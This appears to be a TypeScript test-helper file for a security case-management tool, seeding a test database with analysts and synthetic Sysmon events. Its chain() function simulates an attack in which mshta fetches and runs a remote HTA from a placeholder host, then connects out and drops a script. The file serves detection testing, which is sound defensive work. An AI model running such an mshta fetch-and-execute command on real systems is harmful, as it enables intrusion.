import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { z } from 'zod';
import { setEnvironment } from '../../base/testEnvironment';
import { type CaseDetail, caseDetail, createCaseBody } from '../../contracts/cases';
import { closeStorage, pool } from '../../storage/client';
import { createTestDatabase } from '../../storage/testDatabase';
import { importWhole } from '../testImports';
import { type TestRecord, toLines } from '../testRecords';
import { connection, file, query, quiet, start } from '../testSysmon';
import { createCase } from './changeCases';
import { readCase } from './readCase';

/** For tests: a database with one finding on each of some hosts, and people who work on them. */
export type CaseWorld = {
  /** Id of the finding of each host. */
  readonly findings: ReadonlyMap<string, string>;
  readonly stop: () => Promise<void>;
};

/** People of the tests: two analysts, a lead, a manager, and an analyst who left. */
const PEOPLE = [
  ['anna', 'analyst', false],
  ['bert', 'analyst', false],
  ['lena', 'lead', false],
  ['max', 'manager', false],
  ['gone', 'analyst', true],
] as const;

/** mshta runs a remote HTA, writes a file and calls out. */
function chain(host: string, name: string): readonly TestRecord[] {
  return [
    ...quiet(host, '2026-11-20T08:00', 12),
    start(host, '2026-11-20T09:00:00', 1, 'C:\\Windows\\System32\\mshta.exe', `mshta https://${name}/a.hta`),
    query(host, '2026-11-20T09:00:01', 1, name, '198.51.100.7'),
    connection(host, '2026-11-20T09:00:02', 1, '198.51.100.7'),
    file(host, '2026-11-20T09:00:03', 1, 'C:\\Users\\anna\\AppData\\Local\\Temp\\run.js'),
    ...quiet(host, '2026-11-20T09:10', 12),
  ];
}

/** For tests: such a database, as DATABASE_URL until `stop`. */
export async function startCaseWorld(hosts: readonly string[]): Promise<CaseWorld> {
  const spoolDir = await mkdtemp(path.join(os.tmpdir(), 'sequela-spool-'));
  const database = await createTestDatabase();
  const restore = setEnvironment({ DATABASE_URL: database.url, SEQUELA_DEMO: 'true' });
  for (const [handle, role, left] of PEOPLE) {
    await pool().query(
      `INSERT INTO people (id, handle, name, email, role, deactivated_at)
       VALUES ($1, $1, $1, $1 || '@example.net', $2, CASE WHEN $3 THEN now() END)`,
      [handle, role, left],
    );
  }
  await importWhole(toLines(hosts.flatMap((host) => chain(host, 'cdn.example.net'))), 'some.json', spoolDir);
  const { rows } = await pool().query<{ host: string; id: string }>(
    `SELECT h.name AS host, f.id FROM findings f JOIN hosts h ON h.id = f.host_id`,
  );
  return {
    findings: new Map(rows.map((row) => [row.host.toUpperCase(), row.id])),
    stop: async () => {
      await closeStorage();
      restore();
      await database.drop();
      await rm(spoolDir, { recursive: true, force: true });
    },
  };
}

/** For tests: opens a case as the door would take it. */
export async function open(body: z.input<typeof createCaseBody>, by = 'anna'): Promise<CaseDetail> {
  return checked(await createCase(createCaseBody.parse(body), by));
}

/** For tests: a case as the API gives it, held against its shape. */
export async function look(id: number): Promise<CaseDetail> {
  return checked(await readCase(id));
}

/** For tests: holds an answer against its shape. */
export function checked(detail: CaseDetail): CaseDetail {
  return caseDetail.parse(detail);
}

/** For tests: one vendor alert on a host, as correlation would store it. Returns its reference. */
export async function storeAlert(host: string, alert: string, rule: string): Promise<string> {
  const { rows } = await pool().query<{ id: number }>(
    'SELECT canonical_id AS id FROM hosts WHERE name = $1',
    [host.toLowerCase()],
  );
  const id = rows[0]?.id ?? 0;
  await pool().query(
    `INSERT INTO alerts (host_id, event_id, alert, rule, product, severity, time)
     VALUES ($1, gen_random_uuid(), $2, $3, 'test', 99, 1795000000000000)`,
    [id, alert, rule],
  );
  return `${id}/${alert}`;
}
